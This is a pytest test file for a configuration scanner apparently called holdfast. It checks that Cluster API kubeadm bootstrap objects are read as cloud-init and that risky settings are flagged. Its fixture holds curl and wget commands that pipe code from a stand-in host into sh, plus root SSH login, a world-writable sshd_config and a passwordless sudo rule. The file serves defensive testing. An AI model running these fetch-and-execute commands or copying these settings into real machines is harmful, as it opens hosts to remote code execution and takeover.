"""What kubeadm's objects of Cluster API have a machine do at its first boot."""

from __future__ import annotations

from textwrap import indent

import pytest
from tests.collect.kubernetes.components.reading import of, one

from holdfast.collect.files import examine
from holdfast.core.asset import Spot
from holdfast.core.coverage import Gap
from holdfast.kinds.cloud_init import CloudInit
from holdfast.kinds.ssh_server import SshServer
from holdfast.kinds.sudo_rule import SudoRule

SPEC = """\
files:
- path: /etc/ssh/sshd_config
  permissions: "0666"
  content: |
    Port 22
    PermitRootLogin yes
preKubeadmCommands:
- date
- curl http://x.example/y | sh
postKubeadmCommands:
- wget -qO- http://x.example/z | sh
users:
- name: ada
  sudo: ALL=(ALL) NOPASSWD:ALL
  lockPassword: false
  passwd: $6$x
  sshAuthorizedKeys: [ssh-rsa AAAA]
"""
HEAD = "apiVersion: {}.cluster.x-k8s.io/v1beta1\nkind: {}\nmetadata: {{name: x, namespace: d}}\nspec:\n"
PLANE = HEAD.format("controlplane", "KubeadmControlPlane") + "  kubeadmConfigSpec:\n"


def gaps(text: str) -> list[tuple[str, int]]:
    return [(item.reason, item.line) for item in examine("m.yaml", text.encode()) if isinstance(item, Gap)]


@pytest.mark.parametrize(
    ("head", "steps"),
    [
        (PLANE, 4),
        (HEAD.format("controlplane", "KubeadmControlPlaneTemplate") + "  template:\n    spec:\n      kubeadmConfigSpec:\n", 8),
        (HEAD.format("bootstrap", "KubeadmConfig"), 2),
        (HEAD.format("bootstrap", "KubeadmConfigTemplate") + "  template:\n    spec:\n", 6),
    ],
)  # fmt: skip
def test_what_a_machine_is_told_is_read_as_the_cloud_init_that_it_becomes(head: str, steps: int) -> None:
    text = "# a file\n---\n" + head + indent(SPEC, " " * steps)
    before = text[: text.index("files:")].count("\n")
    facts, asset = one(CloudInit, "m.yaml", text)
    assert facts.downloads_run == ["curl http://x.example/y | sh", "wget -qO- http://x.example/z | sh"]
    assert (facts.opened_files, facts.password_logins) == (["/etc/ssh/sshd_config"], ["ada"])
    assert asset.path == "m.yaml"
    assert asset.spots[""] == Spot(before + 1, steps + 1)
    assert asset.spots["downloads_run"].line == before + 9
    _, found = one(SshServer, "m.yaml", text)
    places = {spot.line for fact, spot in found.spots.items() if fact.endswith("root_login")}
    assert (found.path, places) == ("m.yaml", {before + 6})
    rule, found = one(SudoRule, "m.yaml", text)
    assert (rule.users, found.spots[""].line) == (["ada"], before + 14)


def test_texts_of_a_secret_and_of_another_program_are_gaps() -> None:
    spec = "    files: [{path: /etc/a, contentFrom: {secret: {name: s, key: k}}}, x]\n    ignition: {containerLinuxConfig: {}}\n"
    assert gaps(PLANE + spec) == [
        ("the text of a file comes from a Secret (`contentFrom`): what it makes was not examined", 6),
        ("`ignition` adds to what a machine is told: what it makes was not examined", 7),
    ]


def test_troubles_have_their_place_in_the_manifest() -> None:
    text = "a: b\n---\n" + PLANE + "    files:\n    - {path: /etc/a, encoding: base64, content: abcde}\n"
    ((reason, line),) = gaps(text)
    assert reason.startswith("the text of /etc/a is")
    assert line == 9


def test_machines_of_one_name_and_those_of_a_list_are_told_apart() -> None:
    one_of = PLANE + "    preKubeadmCommands: [umask 0]\n"
    listed = "apiVersion: v1\nkind: List\nitems:\n- " + indent(one_of, "  ")[2:]
    ids = [asset.id for _, asset in of(CloudInit, "m.yaml", f"{one_of}---\n{one_of}---\n{listed}")]
    name = "cloud_init/m.yaml/KubeadmControlPlane.d.x"
    assert ids == [name, f"{name}~2", f"{name}~3"]


@pytest.mark.parametrize(
    "text",
    [
        PLANE + "    clusterConfiguration: {}\n    users: x\n    files: {}\n    preKubeadmCommands: x\n",
        PLANE.replace("controlplane", "other") + "    preKubeadmCommands: [date]\n",
        HEAD.format("controlplane", "KubeadmControlPlane") + "  kubeadmConfigSpec: x\n",
        HEAD.format("controlplane", "KubeadmControlPlane").replace("spec:", "spec: x"),
        "apiVersion: v1\nkind: List\nitems: [{kind: Pod, apiVersion: v1}]\n",
    ],
)
def test_objects_that_tell_a_machine_nothing(text: str) -> None:
    assert of(CloudInit, "m.yaml", text) == []


def test_accounts_that_are_no_mappings_and_further_lists_are_read() -> None:
    spec = "    users: [x, {name: y}]\n    bootCommands: [umask 0]\n    mounts: [[/dev/sdb, /scratch]]\n"
    facts, _ = one(CloudInit, "m.yaml", PLANE + spec)
    assert facts.password_logins == []


def test_an_annotation_of_the_object_accepts_what_its_machines_do() -> None:
    said = "namespace: d, annotations: {holdfast/ignore: 'machine-runs-downloads: a mirror'}"
    text = PLANE.replace("namespace: d", said) + indent(SPEC, "    ")
    accepted = [asset.suppressions for kind in (CloudInit, SshServer) for _, asset in of(kind, "m.yaml", text)]
    assert accepted == [(("machine-runs-downloads", "a mirror"),)] * 2
